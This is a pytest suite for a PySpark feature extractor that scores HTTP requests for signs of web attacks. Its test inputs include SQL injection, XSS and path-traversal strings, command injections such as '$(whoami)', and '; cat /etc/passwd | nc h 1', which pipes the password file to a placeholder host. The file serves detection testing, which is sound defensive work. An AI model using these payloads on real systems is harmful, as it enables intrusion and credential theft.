import random
import re

import pytest
from pyspark.sql import functions as F

from tests import plain_features
from weir.functions import features, text
from weir.functions import patterns as P
from weir.plans import views

ONE = "method string, path string, query string, body string, user_agent string"


def extract(spark, **request):
    row = {"method": "GET", "path": "/", "query": "", "body": "", "user_agent": ""} | request
    return features.extract(spark.createDataFrame([tuple(row[c] for c in ("method", "path", "query", "body", "user_agent"))], ONE)).first()


def payload(spark, **request):
    row = {"method": "GET", "path": "/", "query": "", "body": "", "user_agent": ""} | request
    return features.with_payload(spark.createDataFrame([tuple(row[c] for c in ("method", "path", "query", "body", "user_agent"))], ONE)).first()["payload"]


def apply(spark, f, values):
    return [r[0] for r in spark.createDataFrame([(v,) for v in values], "s string").select(f(F.col("s"))).collect()]


def test_names_and_models():
    assert len(features.NAMES) == 76 == len(set(features.NAMES))
    assert (len(features.CLASSIFIER_NAMES), len(features.ANOMALY_NAMES)) == (69, 63)


def test_strict_decoding(spark):
    given = ["%ff", "a+b%3C", "100%", "%E2%82%AC", "%C0%AE%C0%AE", "plain", ""]
    assert apply(spark, text.decode_component, given) == ["%ff", "a+b<", "100%", "€", "%C0%AE%C0%AE", "plain", ""]


def test_repeated_decoding(spark):
    given = ["&amp;lt;script&amp;gt;", "%253Cscript%253E", r"<svg>", "&#60;img&#x3E;", "&#x27;", "no change"]
    assert apply(spark, text.normalise, given) == ["<script>", "<script>", "<svg>", "<img>", "'", "no change"]


def test_form_values(spark):
    given = ["a=1&b=2&a=3", "a=1", "no form", "?x=%zz&y=+q", "a=b=c&d"]
    assert apply(spark, text.form_values, given) == [["3", "2"], None, None, ["%zz", " q"], ["b=c", ""]]


def test_entropy(spark):
    assert apply(spark, text.entropy, ["", "aaaa", "ab"]) == pytest.approx([0.0, 0.0, 1.0], abs=1e-9)


def test_payload_choice(spark):
    assert payload(spark, path="/../../etc/passwd", query="ver=4.9.5") == "/../../etc/passwd"
    assert payload(spark, path="/a/b", query="ver=4") == "ver=4"
    assert payload(spark, query="q=1", body="name=joe&note=hello") == "name=joe&note=hello"
    assert payload(spark, body="name=joe&note=1' UNION SELECT pass FROM users") == "1' UNION SELECT pass FROM users"
    assert payload(spark) == "/"


def test_navigation_has_no_absolute_path(spark):
    assert extract(spark, path="/products/list")["absolute_path_indicator"] == 0
    assert extract(spark, path="/x", query="/etc/passwd")["absolute_path_indicator"] == 1


def test_operators_and_quotes(spark):
    form = extract(spark, body="a=1&b=2")
    assert (form["sqli_operator_count"], form["non_form_operator_count"]) == (2, 0)
    json = extract(spark, body='{"a": 1, "b": "x"}')
    assert (json["quote_count"], json["non_json_quote_count"]) == (6, 0)
    assert extract(spark, query="' OR 'a'='a")["non_json_quote_count"] == 4


def test_commands(spark):
    f = extract(spark, query="; cat /etc/passwd; CAT x | nc host")
    # no word edge lies between a blank and a slash, so the path is no command
    assert (f["shell_command_count"], f["distinct_shell_command_count"], f["pipe_count"], f["semicolon_count"]) == (3, 2, 1, 2)
    assert extract(spark, query="cat /etc/passwd && cat /etc/shadow && ls /")["distinct_shell_command_count"] == 2
    assert extract(spark, query="127.0.0.1; whoami")["shell_to_path_ratio"] == 1


def test_word_edges_are_ascii(spark):
    assert apply(spark, lambda c: text.count(c, P.SELECT), ["éselect", "xselect", "select"]) == [1, 0, 1]


def test_patterns_equal_python_on_ascii(spark, sf):
    """Counts of the adapted patterns equal those of Python's engine in ASCII mode."""
    given = ["<script>alert(1)</script>", "a=1&b=2;ls -la|cat /etc/passwd", "../..%2f%2e%2e/", "1 UNION SELECT * FROM t -- #x", r"\x41 ሴ %u1234 0xFF", "&lt;&#60; QUJDREVGR0hJSktMTU5PUFFS="]
    for name in ("SQL_KEYWORDS", "SQLI_COMMENT", "SQLI_OPERATOR", "XSS_MARKER", "HTML_TAG", "TRAVERSAL_SEQUENCE", "SHELL_COMMAND", "COMMAND_SEPARATOR", "HEX_ESCAPE", "HTML_ENTITY", "BASE64_LIKE", "SPECIAL_CHAR", "FORM_FIELD"):
        pattern = getattr(P, name)
        assert apply(spark, lambda c, p=pattern: text.count(c, p), given) == [len(re.findall(pattern, g, re.ASCII)) for g in given], name


def test_nulls_and_missing_columns(spark):
    r = features.extract(spark.createDataFrame([(None, None)], "method string, body string")).first()
    assert all(v is not None for v in r) and r["payload_length"] == 0
    assert features.extract(spark.createDataFrame([], ONE)).count() == 0


def test_long_body(spark):
    assert extract(spark, body="a" * 200_000)["payload_length"] == 200_000


FRAGMENTS = [
    "id=1", "name=joe", "&", "a=b", "' OR 'a'='a", "1 UNION SELECT user FROM t -- ", "<script>alert(1)</script>", "<img src=x onerror=confirm(1)>", "../../etc/passwd", "%2e%2e%2f", "..%5c", "; cat /etc/passwd | nc h 1", "$(whoami)", "`ls -la`",
    "%3Cscript%3E", "&lt;svg&gt;", "&#60;img&#x3E;", "\\u003cscript\\u003e", '{"a": 1, "b" : ["x", "y"]}', ' {"k"\n:"v" , "" :""}', "%zz", "100%", "+", " ", "\t\n", "\u00e9\u4e2d", "\u2003", "0x41 \\x41", "%u1234", "QUJDREVGR0hJSktMTU5PUFFSU1RVVg==", "/a/b.php", ".env", "file.conf", "#frag", "style = x",
    "javascript :", "innerHTML", "c:\\boot.ini", "%00", "%0d%0a", "powershell -enc abc", "reg  add", "plain words", "id", "ls", ";;", "&&", "||", ">>", "<>", "!=", ">=", "=", "==", "SELECTED", "select", "_select", "x select y", "rm", "(", ")", "$", "|",
]


def test_all_features_equal_plain_python(spark):
    rng = random.Random(76)
    glue = lambda n: "".join(rng.choice(FRAGMENTS) + rng.choice(["", "", " ", "&"]) for _ in range(rng.randrange(n)))
    rows = [{"method": rng.choice(["GET", "post", "PUT", ""]), "path": rng.choice(["/", "", "/shop/1", "/x?y", "/" + glue(3)]), "query": rng.choice(["", glue(5)]), "body": rng.choice(["", "", glue(8)]), "user_agent": rng.choice(["", "Mozilla/5.0", "sqlmap/1.7"]),
             "content_type": rng.choice(["", "application/x-www-form-urlencoded"]), "extra_headers": rng.choice([{}, {"authorization": "Bearer x", "X-Trace": "1", "Host": "h"}]), "status_code": rng.choice([0, 404])} for _ in range(400)]
    rows += [{**rows[0], "query": x, "body": "", "path": "/"} for x in FRAGMENTS] + [{**rows[0], "query": "", "body": x, "path": x} for x in FRAGMENTS]
    schema = "i int, method string, path string, query string, body string, user_agent string, content_type string, extra_headers map<string,string>, status_code int"
    columns = ["method", "path", "query", "body", "user_agent", "content_type", "extra_headers", "status_code"]
    d = spark.createDataFrame([(i, *[r[c] for c in columns]) for i, r in enumerate(rows)], schema)
    for got in features.extract(d, ("i",)).collect():
        expected = plain_features.features(**rows[got["i"]])
        wrong = {n: (got[n], expected[n]) for n in features.NAMES if got[n] != pytest.approx(expected[n], abs=1e-9)}
        assert not wrong, (rows[got["i"]], wrong)


def test_marks_letters_and_overlaps_in_batches():
    from weir.functions import scan

    texts = ["selectunion select", "\x01 `a\x01b` \x01;", "ſelect Knull", '{"a":"b", "":""}', ',",",', "<>==!===a=b", "/*/ --# #1 ##", "", "cat CAT ls; /bin/ cat", "a b\xa0 c", "a=1&b=2&&c_=", "é😀\x00"]
    got = scan.marks(*[scan.pa.array(texts)] * 3, *[scan.pa.array([""] * len(texts))] * 3)
    for i, t in enumerate(texts):
        want = plain_features.features(query=t) if len(t) else plain_features.features(path="")
        for name in features.SEARCHED:
            if name not in ("body_entropy", "ua_suspicious", "content_type_encoded"):
                assert got[name][i] == pytest.approx(want[name], abs=1e-9), (t, name)



def test_each_feature_alone_equals_all(spark, sf):
    """Whatever columns a reader leaves out, the others stay."""
    d = features.extract(views.requests(spark, sf), ("doc_id",))
    whole = {r["doc_id"]: r for r in d.collect()}
    for names in (["special_char_ratio"], ["method_is_get"], ["body_length", "sqli_keyword_count"], ["payload_entropy", "req_count_1s"]):
        assert all(r[n] == whole[r["doc_id"]][n] for r in d.select("doc_id", *names).collect() for n in names)
    assert d.where("xss_marker_count > 0").count() == sum(r["xss_marker_count"] > 0 for r in whole.values())
    assert d.groupBy("union_present").count().count() == len({r["union_present"] for r in whole.values()})
